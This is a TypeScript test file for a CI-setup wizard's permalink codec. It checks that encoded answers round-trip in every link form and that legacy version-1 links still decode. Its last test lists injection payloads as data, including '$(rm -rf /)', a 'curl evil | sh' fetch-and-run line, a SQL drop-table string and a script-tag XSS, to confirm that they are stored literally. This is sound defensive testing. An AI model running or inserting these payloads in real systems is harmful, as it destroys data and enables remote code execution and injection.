/**
 * Permalink codec: decode(encode(a)) gives back exactly the normalized answers (generated combinations and the
 * defaults), in every link form, and legacy version-1 links still decode. Script payloads in free-text fields are
 * valid strings: they must round-trip literally. Links are decoded through the gate of every input
 * (`restoreAnswers`); malformed and hostile links are tried in src/security/hostile-permalinks.test.ts.
 */
import { deflateSync, strFromU8, strToU8, unzlibSync } from 'fflate';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { defaultAnswers, parseAnswers, type Answers } from './answers';
import {
  encodeAnswers,
  PERMALINK_VERSION,
  permalinkFragment,
  permalinkUrl,
  SHORT_KEYS,
  SHORT_KEYS_V1,
} from './permalink';

const V1_KEYS = new Set<string>(Object.values(SHORT_KEYS_V1));
import { restoreAnswers, restoreErrorMessage } from './restore';
import { normalize, validateCombination } from './rules';
import { answersArb, oneLineText } from '../testing/arbitraries';
import { TABLE_DEFAULTS, VERSION_ANSWERS, VERSIONS_TABLE } from './versions';

/**
 * The answers a link of versions 1 to 3 (made with versions table 1) that omits the same answers as `a`'s link
 * opens to: the version answers `a` leaves at their current default take table 1's default.
 */
const withTable1 = (a: Answers): Answers => {
  const defaults = defaultAnswers();
  const out = { ...a };
  for (const k of VERSION_ANSWERS) if (a[k] === defaults[k]) out[k] = TABLE_DEFAULTS[1]?.[k] ?? a[k];
  return out;
};

/** FC_RUNS raises the count for an exploratory run; the suite uses 1000. */
const RUNS = Number(process.env.FC_RUNS ?? 1000);

const b64url = (bytes: Uint8Array) => Buffer.from(bytes).toString('base64url');
/** A version-1 (legacy, no checksum) link holding `json` (short keys), plain or raw-deflated. */
const plain = (json: string) => `1.j${b64url(strToU8(json))}`;
const deflated = (json: string) => `1.z${b64url(deflateSync(strToU8(json), { level: 9 }))}`;
/** The JSON inside a version-2 link. */
const jsonOf = (link: string) => strFromU8(unzlibSync(Buffer.from(link.replace(/^.*?\d\.z/, ''), 'base64url')));

/** Short keys of the fields added after version 1 without a rename (absent from every version-1 link). */
const V1_SHORT = new Set(Object.values(SHORT_KEYS_V1));
const ADDED_FIELDS = (Object.entries(SHORT_KEYS) as [keyof Answers, string][]).filter(
  ([long, short]) => !V1_SHORT.has(short) && !['dindConnection', 'fromKaniko', 'overlay2'].includes(long),
);
const ADDED_SHORT_KEYS = new Set(ADDED_FIELDS.map(([, short]) => short));
/** The answers a version-1 link of `a` gives: the fields added since take their defaults. */
const asVersion1 = (a: Answers): Answers => {
  const d = defaultAnswers();
  const out = { ...a };
  for (const [long] of ADDED_FIELDS) (out as Record<string, unknown>)[long] = d[long];
  return normalize(out);
};

/**
 * The JSON a version 1 or 2 link held for the same answers: the fields that version 3 renamed, under their old keys
 * and values (`t`: tcp | off | socket-volume, `sd`: default | overlay2-project | overlay2-runner, the method
 * `kaniko-migration` instead of `fk`).
 */
function legacyJson(json: string): string {
  const fields = JSON.parse(json) as Record<string, unknown>;
  const out: Record<string, unknown> = {};
  for (const [key, value] of Object.entries(fields)) {
    if (key === '@t') continue;
    if (ADDED_SHORT_KEYS.has(key)) continue; // a field version 1 did not have: such a link never held it
    if (key === 'dc') out.t = ({ tls: 'tcp', 'plain-tcp': 'off' } as Record<string, string>)[String(value)] ?? value;
    else if (key === 'o2')
      out.sd =
        ({ job: 'overlay2-project', runner: 'overlay2-runner' } as Record<string, string>)[String(value)] ?? value;
    else if (key !== 'fk') out[key] = value;
  }
  if (fields.fk === true) out.m = 'kaniko-migration';
  return JSON.stringify(out);
}

/** A link through the gate of every input (door `link`), with the English message when it is refused. */
function decodeLink(link: string) {
  const r = restoreAnswers({ kind: 'link', raw: link });
  return r.ok ? r : { ok: false as const, error: restoreErrorMessage(r.error, 'en') };
}
const current = {
  ok: true,
  version: PERMALINK_VERSION,
  outdated: false,
  versionsTable: VERSIONS_TABLE,
  newerVersions: [],
};

describe('permalink round trip', () => {
  it('the defaults encode to an empty configuration and decode back', () => {
    const a = defaultAnswers();
    const encoded = encodeAnswers(a);
    const r = decodeLink(encoded);
    expect(r).toEqual({ ...current, answers: a });
    for (const form of [
      permalinkFragment(a),
      `#${permalinkFragment(a)}`,
      permalinkUrl(a, 'https://wizard.example.com/app/'),
      // copied from the app's address bar, on a step or on the start page
      `https://wizard.example.com/app/#/build?${permalinkFragment(a)}`,
      `https://wizard.example.com/app/#/?${permalinkFragment(a)}`,
    ]) {
      expect(decodeLink(form)).toEqual({ ...current, answers: a });
    }
  });

  it(`decode(encode(a)) deep-equals a for ${RUNS} normalized generated answers, in every link form`, () => {
    let runs = 0;
    let longest = 0;
    fc.assert(
      fc.property(answersArb, fc.constantFrom('bare', 'fragment', 'url', 'address bar'), (input, form) => {
        runs++;
        const a = normalize(input);
        const encoded = encodeAnswers(a);
        longest = Math.max(longest, encoded.length);
        const link =
          form === 'bare'
            ? encoded
            : form === 'fragment'
              ? `#c=${encoded}`
              : form === 'address bar'
                ? `https://wizard.example.com/#/cache?c=${encoded}`
                : permalinkUrl(a, 'https://wizard.example.com/?x=1#old');
        const r = decodeLink(link);
        if (!r.ok) throw new Error(`${r.error} (link of ${encoded.length} characters)`);
        expect(r.answers).toEqual(a);
        expect(r.version).toBe(PERMALINK_VERSION);
        // Links made by version 1 (raw deflate or plain JSON, the keys of that time) keep working, with the versions
        // of their time (table 1) where they omit them. Answers added after version 3 cannot be in them.
        if (a.dindIptables !== 'auto') return;
        // Links made by version 1 (raw deflate or plain JSON, the keys of that time) keep working.
        // Fields added after version 1 (not the renamed ones) cannot be in a version-1 link.
        const later = Object.keys(JSON.parse(jsonOf(encoded)) as object).filter(
          (k) => !V1_KEYS.has(k) && !['dc', 'fk', 'o2'].includes(k),
        );
        if (later.length > 0) return;
        const json = legacyJson(jsonOf(encoded));
        for (const old of [plain(json), deflated(json)]) {
          const r1 = decodeLink(old);
          if (!r1.ok) throw new Error(`version 1 link: ${r1.error}`);
          expect(r1.answers).toEqual(withTable1(asVersion1(a)));
          expect(r1).toMatchObject({ version: 1, migratedFrom: 1, outdated: true, versionsTable: 1 });
        }
      }),
      { numRuns: RUNS },
    );
    console.log(`[permalink] round trip: ${runs} normalized answers; longest link ${longest} characters`);
    expect(runs).toBeGreaterThanOrEqual(RUNS);
  });

  it('the longest valid answers round-trip (every text field at its maximum length, incompressible)', () => {
    // A fixed pseudo-random sequence of BMP characters outside ASCII (3 bytes in UTF-8 each, so the JSON is as large
    // as the schema allows and deflate cannot shrink it much) where the syntax allows them, ASCII where it does not.
    let seed = 12345;
    const next = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31);
    const bmp = (n: number) =>
      Array.from({ length: n }, () => String.fromCharCode(0x4e00 + ((next() >>> 8) % 0x5000))).join('');
    const ascii = (n: number) =>
      Array.from({ length: n }, () => 'abcdefghijklmnopqrstuvwxyz0123456789'[(next() >>> 8) % 36]).join('');
    const a: Answers = {
      ...defaultAnswers(),
      gitlabUrl: `https://gitlab.example.com/${bmp(1000 - 27)}`,
      k8sNamespace: `a${ascii(62)}`,
      runnerDescription: bmp(1000),
      runnerTags: Array.from({ length: 20 }, () => bmp(254)),
      testCommand: bmp(1000),
      dockerfile: bmp(255),
      context: bmp(255),
      compose: true,
      composeFile: bmp(255),
      runTests: true,
      image: `$CI_REGISTRY_IMAGE/${ascii(1000 - 19)}`,
      cache: 'registry',
      cacheRef: `$CI_REGISTRY_IMAGE/${ascii(1000 - 19)}`,
      proxy: 'job',
      httpProxy: `http://proxy.example.com:3128/${bmp(1000 - 30)}`,
      httpsProxy: `http://proxy.example.com:3128/${bmp(1000 - 30)}`,
      noProxy: Array.from({ length: 90 }, () => `${ascii(9)}.x`)
        .join(',')
        .slice(0, 1000)
        .replace(/,[^,]*$/, ''),
      mirrorUrl: `https://mirror.example.com/${bmp(1000 - 27)}`,
      buildx: true,
      dockerHubUserVar: `A${ascii(254).toUpperCase()}`,
      dockerHubPasswordVar: `B${ascii(254).toUpperCase()}`,
      otherUserVar: `C${ascii(254).toUpperCase()}`,
      otherPasswordVar: `D${ascii(254).toUpperCase()}`,
      authConfigVar: `E${ascii(254).toUpperCase()}`,
      customCaVar: `F${ascii(254).toUpperCase()}`,
    };
    expect(parseAnswers(a)).toMatchObject({ ok: true });
    const n = normalize(a);
    expect(validateCombination(n)).toEqual([]);
    const encoded = encodeAnswers(n);
    const r = decodeLink(encoded);
    if (!r.ok) throw new Error(`${r.error} (link of ${encoded.length} characters)`);
    expect(r.answers).toEqual(n);
    console.log(`[permalink] longest valid answers: a link of ${encoded.length} characters round-trips`);
  });

  it(`script payloads in free-text fields are valid strings and round-trip literally (${RUNS} cases)`, () => {
    let runs = 0;
    const payloads = fc.oneof(
      fc.constantFrom(
        '$(rm -rf /)',
        '`reboot`',
        '"; curl evil | sh; "',
        "'; DROP TABLE x; --",
        '${IFS}',
        '<script>alert(1)</script>',
        '{{7*7}}',
        '\u2019$(id)\u2019',
      ),
      oneLineText(10),
    );
    fc.assert(
      fc.property(payloads, payloads, (description, testCommand) => {
        const a = normalize({ ...defaultAnswers(), runnerDescription: description, runTests: true, testCommand });
        // Only strings the schema accepts (a secret-looking one would be refused, tested below).
        const r = decodeLink(encodeAnswers(a));
        if (!r.ok) {
          expect(r.error).toMatch(/looks like a secret|line separator/);
          return;
        }
        runs++;
        expect(r.answers.runnerDescription).toBe(description);
        expect(r.answers.testCommand).toBe(testCommand);
      }),
      { numRuns: RUNS },
    );
    console.log(`[permalink] script payloads: ${runs} literal round trips`);
    expect(runs).toBeGreaterThan(RUNS / 2);
  });
});
